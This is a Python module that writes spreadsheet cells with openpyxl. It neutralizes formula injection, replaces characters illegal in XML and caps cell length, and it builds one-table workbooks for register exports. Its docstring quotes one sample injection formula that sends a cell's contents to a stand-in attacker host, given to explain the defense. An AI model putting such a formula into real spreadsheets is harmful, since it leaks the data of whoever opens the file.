"""Every spreadsheet cell Sanji writes goes through `put`: the one place that makes user text
safe to open in Excel, WPS or LibreOffice.

Why: register exports carry what people typed into forms (a clue's person, a ledger's
problem) and what scripts stored. Two things went wrong with such text written as is:
- formula injection (OWASP "CSV injection"): openpyxl stores a string starting with `=` as a
  live formula, so `=HYPERLINK("http://evil.example/?d="&B2,"x")` ran in the reader's Excel;
- characters XML 1.0 forbids (`\\x0b`, `\\x00`, …) make openpyxl raise IllegalCharacterError,
  and one such stored value broke every later export of the register (a 500).

So text is always a string cell (never a formula); text starting with `=`, `+`, `-`, `@`, tab
or CR also gets Excel's quote prefix (the cell shows the text, and editing it does not turn it
into a formula); characters XML forbids become U+FFFD; text is cut to Excel's 32,767
characters per cell. Numbers, dates and booleans stay what they are. `table_xlsx` is the
one-table workbook of the register and dashboard downloads; engine.linkage.reports lays out the linkage
report with `put` as well.
"""

from __future__ import annotations

import io
import math
import re
from collections.abc import Iterable
from datetime import date, datetime, time, timedelta
from decimal import Decimal
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
MAX_CELL_CHARS = 32_767  # Excel refuses (and "repairs" away) longer cell text
# Not a Char of XML 1.0 (§2.2): C0 controls other than tab, LF, CR; surrogates; U+FFFE, U+FFFF
XML_ILLEGAL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
REPLACEMENT = "\ufffd"
_PLAIN = (bool, int, Decimal, datetime, date, time, timedelta)


def clean_text(text: str) -> str:
    """`text` as an XML document can hold it: forbidden characters replaced, Excel's length."""
    text = XML_ILLEGAL.sub(REPLACEMENT, text)
    return text if len(text) <= MAX_CELL_CHARS else text[: MAX_CELL_CHARS - 1] + "…"


def put(ws: Any, row: int, column: int, value: Any) -> Any:
    """Write `value` into the worksheet cell and return the cell: text as a literal string,
    numbers, dates and booleans as themselves, anything else as its text."""
    cell = ws.cell(row=row, column=column)
    if value is None or isinstance(value, _PLAIN) or (isinstance(value, float) and math.isfinite(value)):
        cell.value = value
        return cell
    text = clean_text(value if isinstance(value, str) else str(value))  # NaN/inf: Excel has no such number
    cell.value = text
    cell.data_type = "s"  # openpyxl made text starting with "=" a formula: it is the user's text
    if text.startswith(FORMULA_PREFIXES):
        cell.quotePrefix = True
    return cell


def table_xlsx(
    title: str,
    subtitle: str,
    headers: list[str],
    rows: list[list[Any]],
    percent: Iterable[int] = (),
    sheet: str = "Sheet1",
) -> bytes:
    """One table as a workbook: a title line, a subtitle line, a bold boxed header, boxed rows
    (the layout of engine.linkage.reports.to_xlsx); columns listed in `percent` (0-based) as 0.0%."""
    from openpyxl import Workbook
    from openpyxl.styles import Alignment, Border, Font, Side
    from openpyxl.utils import get_column_letter

    wb = Workbook()
    ws = wb.active
    ws.title = "".join(ch for ch in clean_text(sheet) if ch not in "[]:*?/\\")[:31] or "Sheet1"
    width = max(1, len(headers))
    thin = Side(style="thin")
    box = Border(left=thin, right=thin, top=thin, bottom=thin)
    center = Alignment(horizontal="center", vertical="center", wrap_text=True)
    for r, (text, font) in enumerate(((title, Font(bold=True, size=14)), (subtitle, Font(size=10))), start=1):
        cell = put(ws, r, 1, text)
        cell.font, cell.alignment = font, center
        ws.merge_cells(start_row=r, start_column=1, end_row=r, end_column=width)
    top = 4
    for c, text in enumerate(headers, start=1):
        cell = put(ws, top, c, text)
        cell.font, cell.alignment, cell.border = Font(bold=True), center, box
    pct = set(percent)
    for r, values in enumerate(rows, start=top + 1):
        for c, value in enumerate(values, start=1):
            cell = put(ws, r, c, value)
            cell.border = box
            cell.alignment = Alignment(vertical="top", wrap_text=isinstance(value, str) and len(value) > 30)
            if c - 1 in pct and isinstance(value, (int, float)):
                cell.number_format = "0.0%"
    for c in range(1, width + 1):
        longest = max(
            [len(str(headers[c - 1]))] + [len(str(v[c - 1])) for v in rows if c - 1 < len(v) and v[c - 1] is not None]
        )
        ws.column_dimensions[get_column_letter(c)].width = min(60, max(10, longest * 2 + 2))
    ws.freeze_panes = ws.cell(row=top + 1, column=1)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()
